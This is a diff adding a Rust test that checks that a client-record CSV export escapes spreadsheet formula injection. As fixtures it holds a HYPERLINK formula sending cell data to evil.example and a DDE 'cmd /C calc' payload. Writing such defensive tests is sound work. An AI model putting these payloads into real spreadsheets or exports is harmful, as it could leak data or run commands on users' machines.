@@ -397,6 +397,56 @@ async fn the_operator_erases_a_client_through_the_same_path(backend: Backend) {
     );
 }
 
+both_backends!(a_value_a_spreadsheet_would_run_as_a_formula_is_exported_to_csv_as_text);
+async fn a_value_a_spreadsheet_would_run_as_a_formula_is_exported_to_csv_as_text(backend: Backend) {
+    let server = start(backend).await;
+    let coach = server.login("coach_a").await;
+    let lead = server.login("lead_n").await;
+    let formula = r#"=HYPERLINK("http://evil.example/?d="&A1,"Amina")"#;
+    let (client, _) = create_client(
+        &server,
+        &coach,
+        &[
+            ("given_name", json!(formula)),
+            ("nickname", json!("@SUM(1+1)*cmd|' /C calc'!A0")),
+            ("municipality", json!("-2+3")),
+        ],
+    )
+    .await;
+    let text = server
+        .http
+        .get(format!("{}/v1/clients/{client}/export", server.base))
+        .bearer_auth(&lead.token)
+        .header("accept", "text/csv")
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let quoted = format!("\"'{}\"", formula.replace('"', "\"\""));
+    assert!(
+        text.contains(&format!("current,client,{client},given_name,{quoted},")),
+        "{text}"
+    );
+    assert!(
+        text.contains(&format!("history,client,{client},given_name,{quoted},")),
+        "{text}"
+    );
+    assert!(
+        text.contains(",nickname,'@SUM(1+1)*cmd|' /C calc'!A0,"),
+        "{text}"
+    );
+    assert!(text.contains(",municipality,'-2+3,"), "{text}");
+    // No cell of the file begins with a formula's first character.
+    for line in text.lines() {
+        for cell in line.split(',') {
+            let cell = cell.trim_start_matches('"');
+            assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell} in {line}");
+        }
+    }
+}
+
 both_backends!(the_access_export_gives_every_field_contact_and_history_as_json_and_csv);
 async fn the_access_export_gives_every_field_contact_and_history_as_json_and_csv(backend: Backend) {
     let server = start(backend).await;
